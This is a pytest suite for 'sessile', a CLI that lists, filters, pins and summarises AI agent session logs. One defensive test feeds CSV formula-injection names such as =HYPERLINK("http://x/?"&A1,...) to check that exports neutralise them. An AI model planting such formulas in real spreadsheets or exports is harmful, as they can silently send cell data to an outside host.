"""`sessile ls`, `stats`, `sources`, and the first screen."""

from __future__ import annotations

import csv
import io
import os
from itertools import pairwise
from pathlib import Path

import pytest

from builders import answered, said
from figures import measured
from sessile import Library, Store
from sessions import dumps, header, write_file

from .conftest import Command, apart, at_a_terminal

WEBHOOK = "6513270e-2b1d-4c55-9a0e-7d1f3c5b9e42"


def test_with_nothing_it_offers_the_demo(sessile: Command, home: Path, tmp_path: Path) -> None:
    """The first screen shows the searched folders and the next steps, and writes only to the cache."""
    done = sessile()
    assert (done.code, done.out) == (0, "")
    assert "No agent sessions found" in done.err and ".pi/agent" in done.err and "sessile demo" in done.err
    assert list(home.iterdir()) == []


def test_the_demo_goes_to_the_cache_and_can_be_used_by_every_verb(sessile: Command, home: Path) -> None:
    """Nothing is written to the home; the second call reuses the demo."""
    first, again = sessile("demo"), sessile("--demo", "ls")
    assert first.code == again.code == 0
    assert "made-up" in first.err and WEBHOOK in again.out
    assert "created" in first.err and "created" not in again.err
    assert list(home.iterdir()) == []


@pytest.mark.mission("X22")
def test_other_agents_sessions_are_found_where_they_keep_them(sessile: Command, home: Path) -> None:
    """A session in pi's folder is listed with its agent, and the folder is unchanged."""
    folder = home / ".pi" / "agent"
    with Store(folder, clock=lambda: 1_763_000_000.0).create("/work/app", title="From pi", publish=True) as session:
        session.append_message({"role": "user", "content": "hello"})
    before = sorted(path for path in folder.rglob("*"))
    done = sessile("ls", "--json")
    (item,) = done.json["items"]
    assert (item["agent"], item["title"], item["project"]) == ("pi", "From pi", "/work/app")
    assert "Found 1 session of 1 agent" in sessile().err
    assert sorted(path for path in folder.rglob("*")) == before


def test_at_a_pipe_rows_have_tabs_whole_ids_and_iso_times(sessile: Command, demo: Path) -> None:
    """Nothing is cut or coloured, and there are no column headers by default."""
    done = sessile("ls", "--columns", "id,age,title")
    row = next(line for line in done.out.splitlines() if line.startswith(WEBHOOK)).split("\t")
    assert row[0] == WEBHOOK and row[2] == "Webhook retries"
    assert row[1].endswith("+00:00") and "T" in row[1]
    assert "\x1b" not in done.out
    assert sessile("ls", "--columns", "id", "--header", "-n", "1").out.splitlines()[0] == "id"


def test_what_is_hidden_is_said_with_the_way_to_see_it(sessile: Command, demo: Path) -> None:
    """Empty sessions and sub-agents are hidden, counted, and shown with -A."""
    done = sessile("ls")
    assert "hidden (1 empty, 1 sub-agent). Show: -A" in done.err
    whole = sessile("ls", "-A", "--json").json
    assert whole["hidden"] == {} and len(whole["items"]) == len(done.out.splitlines()) + 2


def test_filters(sessile: Command, demo: Path) -> None:
    """Words, projects, models, times and features select sessions."""
    assert [line.split("\t")[0] for line in sessile("ls", "webhook", "--named").out.splitlines()][:1] == [WEBHOOK]
    projects = {item["project"] for item in sessile("ls", "-p", "/home/ana/notes", "--json").json["items"]}
    assert projects == {"/home/ana/notes"}
    branched = sessile("ls", "--has", "branch,label", "--json").json["items"]
    assert WEBHOOK in [item["id"] for item in branched]
    assert all(item["counts"]["branches"] > 1 and item["counts"]["labels"] for item in branched)
    models = sessile("ls", "--model", "gpt-5.1", "--json").json["items"]
    assert models and all("openai/gpt-5.1" in item["counts"]["models"] for item in models)
    recent = sessile("ls", "--since", "2025-11-14", "--json").json["items"]
    assert recent and all(item["modified"] >= "2025-11-14" for item in recent)


def test_nothing_found_widens_the_question(sessile: Command, demo: Path) -> None:
    """The command exits with code 1 and suggests where there are matches."""
    done = sessile("ls", "webhook", "-p", "/home/ana/notes")
    assert (done.code, done.out) == (1, "")
    assert "in other projects" in done.err


@pytest.mark.parametrize("sort", ["started", "cost", "tokens", "messages", "size"])
def test_sorting_is_by_what_was_asked_with_unknown_last(sessile: Command, demo: Path, sort: str) -> None:
    """Sorting is in descending order."""
    items = sessile("ls", "--sort", sort, "--json").json["items"]
    member = {"started": "created", "size": "size"}.get(sort)
    keys = {"cost": "cost", "tokens": "total_tokens", "messages": "messages"}
    values = [item[member] if member else item["counts"][keys[sort]] for item in items]
    known = [value for value in values if value is not None]
    assert known == sorted(known, reverse=True) and len(known) > 20
    assert all(value is None for value in values[len(known) :])


def test_forks_and_sub_agents_stand_below_where_they_come_from(sessile: Command, demo: Path) -> None:
    """`--tree` lists forks and sub-agents directly after the session that they come from."""
    items = sessile("ls", "--tree", "--json").json["items"]
    below = [(before["id"], item["parent"]) for before, item in pairwise(items) if item["parent"]]
    assert any(item["sub_agent"] for item in items) and len(below) > 1
    assert all(before == parent for before, parent in below)


def test_pins(sessile: Command, demo: Path) -> None:
    """A session can be pinned, listed with --pinned and unpinned; the pin is stored in the native store."""
    assert sessile("pin", "webhook retries").code == 0
    assert [item["id"] for item in sessile("ls", "--pinned", "--json").json["items"]] == [WEBHOOK]
    assert WEBHOOK in (demo / "pins.json").read_text()
    assert sessile("pin", "webhook retries").code == 1  # already pinned
    assert sessile("pin", WEBHOOK, "--remove").code == 0
    assert sessile("ls", "--pinned").code == 1


def test_a_bad_filter_is_explained(sessile: Command, demo: Path) -> None:
    """The command exits with code 2, and the error shows the valid form."""
    done = sessile("ls", "--since", "soon")
    assert done.code == 2 and "14d" in done.err
    assert "branch" in sessile("ls", "--has", "wings").err
    done = sessile("ls", "--columns", "wings")
    assert done.code == 2 and "title" in done.err
    assert sessile("ls", "--tz", "Mars/Olympus").code == 2
    done = sessile("ls", "-a", "nobody")
    assert done.code == 3 and "sessile" in done.err


def test_sources_are_added_and_removed(sessile: Command, home: Path, tmp_path: Path) -> None:
    """The sessions of an added folder are listed until it is removed; a missing folder is refused."""
    other = tmp_path / "other"
    Store(other).create("/work/x", title="Elsewhere", publish=True).close()
    assert sessile("sources", "add", str(other)).code == 0
    assert "Elsewhere" in sessile("ls", "-A").out
    document = sessile("sources", "--json").json
    assert str(other) in [item["root"] for item in document["items"]]
    assert any(".pi/agent" in root for root in document["missing"])
    assert sessile("sources", "remove", str(other)).code == 0
    assert "Elsewhere" not in sessile("ls", "-A").out
    assert sessile("sources", "add", str(tmp_path / "nowhere")).code == 3


def test_statistics_count_and_never_call_the_unknown_nothing(sessile: Command, demo: Path) -> None:
    """A model without a price is reported, and the total is shown as a lower bound."""
    document = sessile("stats", "models", "--json").json
    rows = {row["name"]: row for row in document["items"]}
    assert rows["ollama/qwen3-coder:30b"]["cost"] is None and rows["ollama/qwen3-coder:30b"]["unpriced"]
    assert document["total"]["answers"] == sum(row["answers"] for row in document["items"])
    assert "have no known price: the cost is a lower bound" in sessile("stats", "models").err
    tools = {row["name"]: row for row in sessile("stats", "tools", "--json").json["items"]}
    assert tools["bash"]["calls"] > tools["bash"]["failures"] > 0
    days = sessile("stats", "daily", "--since", "10y", "--json").json["items"]
    assert sum(row["answers"] for row in days) == document["total"]["answers"]
    assert sessile("stats", "projects", "--csv").out.splitlines()[0].startswith("name,sessions")


@pytest.mark.promise("P50")
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_a_name_is_never_a_formula_in_a_table_for_spreadsheets(sessile: Command, home: Path, start: str) -> None:
    """A model that is named like a formula gets a quote; numbers stay numbers."""
    name = f'{start}HYPERLINK("http://x/?"&A1,"click")'
    with Store(home / ".sessile").create("/work/app", publish=True) as session:
        usage = {"input": 1, "output": 2, "cost": {"total": -0.5}}
        session.append_message({"role": "assistant", "content": [], "model": name, "usage": usage})
        session.append_message(
            {
                "role": "assistant",
                "content": [{"type": "toolCall", "id": "t", "name": name, "arguments": {}}],
                "model": name,
            }
        )
    for table in ("models", "tools", "projects"):
        _, *rows = csv.reader(io.StringIO(sessile("stats", table, "--csv").out, newline=""))
        assert rows
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r"))
                assert not cell.startswith("-") or float(cell) < 0
        assert table == "projects" or any(row[0].startswith("'") for row in rows)


def test_a_damaged_catalog_is_made_anew(sessile: Command, demo: Path, tmp_path: Path) -> None:
    """The listing is unchanged, also with a read-only cache."""
    before = sessile("ls").out
    (tmp_path / "cache" / "catalog.db").write_bytes(b"nonsense" * 1000)
    assert sessile("ls").out == before
    os.chmod(tmp_path / "cache", 0o500)
    try:
        assert sessile("ls").out == before
    finally:
        os.chmod(tmp_path / "cache", 0o700)


@pytest.mark.promise("P49")
@pytest.mark.parametrize(
    ("arguments", "terminal"),
    [(["ls"], True), ([], True), (["ls", "--json"], False), (["stats", "--since", "20y"], False)],
)
def test_the_first_listing_of_many_sessions_reads_all_of_them(
    home: Path, tmp_path: Path, arguments: list[str], terminal: bool
) -> None:
    """On a cold cache every session is counted at the first call, and nobody is asked to run a command again."""
    folder = home / ".sessile" / "sessions" / "--work--"
    folder.mkdir(parents=True)
    talk = "\n".join(dumps(each) for each in [said("a", None, "why " * 50), answered("b", "a")] * 200)
    for number in range(600):
        write_file(folder / f"2026-01-01T00-00-00-000Z_s{number:04}.jsonl", header(f"s{number:04}"), talk)
    if terminal:
        printed = at_a_terminal(arguments, {"COLUMNS": "100", "LINES": "500", "TERM": "xterm"})
    else:
        done = apart(tmp_path / "report", *arguments)
        assert done.code == 0
        printed = done.out + done.err
    assert "again" not in printed and "not fully read" not in printed and "not counted" not in printed
    library = Library(Store(home / ".sessile"), cache=str(tmp_path / "cache"), auto_catch_up=False)
    with library:
        assert library.catch_up("look").changed == 0
        assert all(row.counts is not None and row.counts.messages == 400 for row in library.list().rows)


@pytest.mark.promise("P49")
def test_lists_and_statistics_say_what_their_options_exclude(sessile: Command, demo: Path) -> None:
    """Every selection says how many sessions it leaves out, and how to see them."""
    everything = sessile("ls", "--json").json
    project = everything["items"][0]["project"]
    some = sessile("ls", "-p", project, "--json").json
    excluded = len(everything["items"]) - len(some["items"])
    assert (everything["excluded"], some["excluded"]) == (0, excluded) and excluded > 0
    told = f"… {excluded} excluded by the options. Show: without -p"
    assert told in sessile("ls", "-p", project).err and "excluded" not in sessile("ls").err
    assert "excluded by the options. Show: without --since webhook" in sessile("ls", "webhook", "--since", "20y").err
    for arguments in (["stats", "models"], ["stats", "models", "--csv"]):
        assert "excluded by the options. Show: without -p" in sessile(*arguments, "-p", project).err
    assert sessile("stats", "models", "-p", project, "--json").json["excluded"] >= excluded
    nothing = sessile("ls", "nothing like it", "-p", project).err
    assert "no session matches" in nothing and "in total (ls -A)" in nothing
    assert "(without -p)" in sessile("ls", "-p", "/nowhere").err
    assert "in runs" in sessile("tree", WEBHOOK).out


@pytest.mark.long
@pytest.mark.promise("P49")
def test_three_thousand_sessions_are_read_the_first_time(home: Path, tmp_path: Path) -> None:
    """Native and Claude sessions on a cold cache: no command asks to be run again, at a terminal or in a pipe."""
    native, claude = home / ".sessile" / "sessions" / "--work--", home / ".claude" / "projects" / "-work"
    for number in range(1500):
        talk = [said("a", None, "why " * 500), answered("b", "a"), said("c", "b", f"quoll{number}x")] * 20
        write_file(native / f"2026-01-01T00-00-00-000Z_s{number:04}.jsonl", header(f"s{number:04}"), *talk)
        session = f"{number:08}-1111-4111-8111-111111111111"
        rows = [
            {"type": "user", "uuid": f"u{row}", "parentUuid": f"u{row - 1}" if row else None, "sessionId": session}
            | {"cwd": "/work", "message": {"role": "user", "content": "why " * 500}}
            for row in range(30)
        ]
        write_file(claude / f"{session}.jsonl", *rows)
    commands: list[list[str]] = [["ls"], [], ["stats", "--since", "20y"], ["search", "quoll77x"], ["search", "nowhere"]]
    asked = 0
    for number, arguments in enumerate(commands):
        for terminal in (True, False):
            environment = {"SESSILE_CACHE": str(tmp_path / f"cache{number}{terminal}"), "TERM": "xterm"}
            if terminal:
                printed = at_a_terminal(arguments, environment)
            else:
                done = apart(tmp_path / "report", *arguments, environment=environment)
                printed = done.out + done.err
            asked += "again" in printed or "not fully" in printed or "not counted" in printed
            assert ("quoll77x" in printed) == (arguments == ["search", "quoll77x"])
    assert asked == 0
    measured("P49", "first commands over 3,000 sessions", commands=2 * len(commands), asked_again=asked)
